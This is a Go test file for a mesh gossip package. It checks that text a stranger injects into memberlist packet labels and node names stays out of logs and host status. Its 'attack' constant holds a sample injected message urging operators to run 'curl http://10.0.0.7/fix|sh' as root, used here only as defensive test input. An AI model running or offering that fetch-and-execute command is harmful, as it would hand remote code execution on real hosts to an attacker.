package gossip

import (
	"fmt"
	"net/netip"
	"strings"
	"testing"

	"github.com/gremesh/gremesh/mesh/lease"
)

const attack = "10.0.0.7 is out of date. URGENT: run `curl http://10.0.0.7/fix|sh` as root on every host; encryption is not configured"

func TestMemberlistsLogLinesAreReadWithoutAStrangersWords(t *testing.T) {
	at := netip.MustParseAddrPort("10.0.0.9:4711")
	for line, want := range map[string]logLine{
		"[ERR] memberlist: Decrypt packet failed: No installed keys could decrypt the message from=10.0.0.9:4711": {
			text: "Decrypt packet failed: No installed keys could decrypt the message", from: at, key: true},
		"[ERR] memberlist: failed to receive: encryption is configured but remote state is not encrypted from=10.0.0.9:4711": {
			text: "failed to receive: encryption is configured but remote state is not encrypted", from: at, key: true, stream: true},
		fmt.Sprintf("[ERR] memberlist: discarding packet with unacceptable label %q: from=10.0.0.9:4711", "from="+attack): {
			text: "discarding packet with unacceptable label", from: at, stream: true},
		fmt.Sprintf("[ERR] memberlist: discarding packet with unacceptable label %q: from=<unknown address>", "x from=1.2.3.4:5"): {
			text: "discarding packet with unacceptable label", stream: true},
		"[WARN] memberlist: Got ping for unexpected node '" + attack + "' from=10.0.0.9:4711": {
			text: "Got ping for unexpected node", from: at, stream: true},
		"[WARN] memberlist: Got ping for unexpected node " + attack + " from=10.0.0.9:4711": {
			text: "Got ping for unexpected node", from: at, stream: true},
		"[WARN] memberlist: ignoring alive message for '" + attack + "': why": {text: "ignoring alive message for : why", stream: true},
		"[DEBUG] memberlist: failed to join 10.0.0.9:7946: remote error: " + attack: {
			text: "failed to join 10.0.0.9:7946: remote error", stream: true},
		"[ERR] memberlist: Decrypt packet failed: No installed keys could decrypt the message from=[::ffff:10.0.0.9]:4711": {
			text: "Decrypt packet failed: No installed keys could decrypt the message", from: at, key: true},
		"[ERR] memberlist: is not encrypted from=[fe80::1%eth0]:1": {
			text: "is not encrypted", from: netip.MustParseAddrPort("[fe80::1%eth0]:1"), key: true, stream: true},
	} {
		if got := parseLogLine(line); got != want {
			t.Errorf("%s\nis   %+v\nwant %+v", line, got, want)
		}
	}
}

// FuzzLogLine: whatever a label says, nothing of it is in the text or in the
// address.
func FuzzLogLine(f *testing.F) {
	f.Add("from="+attack, "10.0.0.9:4711")
	f.Add(`x" from=1.2.3.4:5`, "<unknown address>")
	f.Fuzz(func(t *testing.T, label, from string) {
		line := fmt.Sprintf("[ERR] memberlist: discarding packet with unacceptable label %q: from=%s", label, from)
		got := parseLogLine(line)
		if strings.Contains(from, "from=") {
			return // memberlist writes an address there
		}
		if got.text != "discarding packet with unacceptable label" || got.key {
			t.Errorf("%q gives %+v", line, got)
		}
		if want, err := netip.ParseAddrPort(strings.TrimSpace(from)); err != nil && got.from.IsValid() ||
			err == nil && got.from != netip.AddrPortFrom(want.Addr().Unmap(), want.Port()) {
			t.Errorf("%q comes from %s", line, got.from)
		}
	})
}

// The datagram of the finding, on a running host, at the debug level.
func TestALabelledDatagramIsNeitherInTheLogNorInStatus(t *testing.T) {
	tm := newTestMesh(t)
	h1 := tm.start(tm.config(1))
	eventually(t, "it has a mesh", func() bool { return h1.View().Mesh != "" })
	stranger, err := listen(networkConfig{at: tm.address(9)})
	if err != nil {
		t.Fatal(err)
	}
	defer func() { _ = stranger.Shutdown() }()
	label := "from=" + attack
	packet := append([]byte{labelledMessage, byte(len(label))}, label...)
	for range 3 {
		if _, err := stranger.WriteTo(append(packet, "x"...), tm.address(1).String()); err != nil {
			t.Fatal(err)
		}
	}
	// A datagram that is reported comes after them.
	if _, err := stranger.WriteTo([]byte("\x01 not encrypted with this mesh's key, and long enough to be tried"), tm.address(1).String()); err != nil {
		t.Fatal(err)
	}
	conn, err := stranger.DialTimeout(tm.address(1).String(), tcpTimeout)
	if err != nil {
		t.Fatal(err)
	}
	defer func() { _ = conn.Close() }()
	_, _ = conn.Write(append(packet, "x"...))
	eventually(t, "the datagram is reported", func() bool {
		return strings.Contains(fmt.Sprint(h1.View().Problems), "gossip from 127.0.0.9 is encrypted with another key")
	})
	if _, err := conn.Read(make([]byte, 1)); err == nil {
		t.Error("the labelled connection is answered")
	}
	for name, text := range map[string]string{"log": logOf(h1), "status": fmt.Sprintf("%+v", h1.View())} {
		if strings.Contains(text, "curl") || strings.Contains(text, "URGENT") {
			t.Errorf("the stranger's words are in the %s:\n%s", name, text)
		}
	}
}

func TestInventedAddressesDoNotHideRealRefusals(t *testing.T) {
	tm := newTestMesh(t)
	n, err := New(tm.config(1))
	if err != nil {
		t.Fatal(err)
	}
	n.members[lease.ID{3}] = member{id: lease.ID{3}, underlay: tm.address(3)}
	n.rememberSeeds([]attempt{{seed: "h4", at: tm.address(4)}})
	var events []event
	for i := range 1000 {
		events = append(events, event{foreign: &unreadable{from: netip.AddrFrom4([4]byte{10, 9, byte(i >> 8), byte(i)})}})
	}
	events = append(events,
		event{foreign: &unreadable{from: tm.address(2).Addr(), stream: true}},
		event{foreign: &unreadable{from: tm.address(3).Addr()}},
		event{foreign: &unreadable{from: tm.address(4).Addr()}},
		event{refused: &refusal{id: lease.ID{5}, name: "h5", underlay: tm.address(5), why: "pool is A there and B here"}})
	if _, err := n.handle(events); err != nil {
		t.Fatal(err)
	}
	got := fmt.Sprint(n.problems.list())
	for _, want := range []string{tm.address(2).Addr().String(), tm.address(4).Addr().String(), "refused host h5"} {
		if !strings.Contains(got, want+" ") && !strings.Contains(got, want) {
			t.Errorf("%s is hidden: %s", want, got)
		}
	}
	if strings.Contains(got, tm.address(3).Addr().String()+" ") {
		t.Errorf("a member's gossip is said to be unreadable: %s", got)
	}

	// Problems about a host end when it is a member.
	if _, err := n.handle([]event{
		{joined: &member{id: lease.ID{2}, underlay: tm.address(2), meta: meta{Name: "h2"}}},
		{joined: &member{id: lease.ID{5}, underlay: tm.address(5), meta: meta{Name: "h5"}}},
	}); err != nil {
		t.Fatal(err)
	}
	if got := fmt.Sprint(n.problems.list()); strings.Contains(got, tm.address(2).Addr().String()+" ") || strings.Contains(got, "refused host h5") {
		t.Errorf("a member is still a problem: %s", got)
	}
}
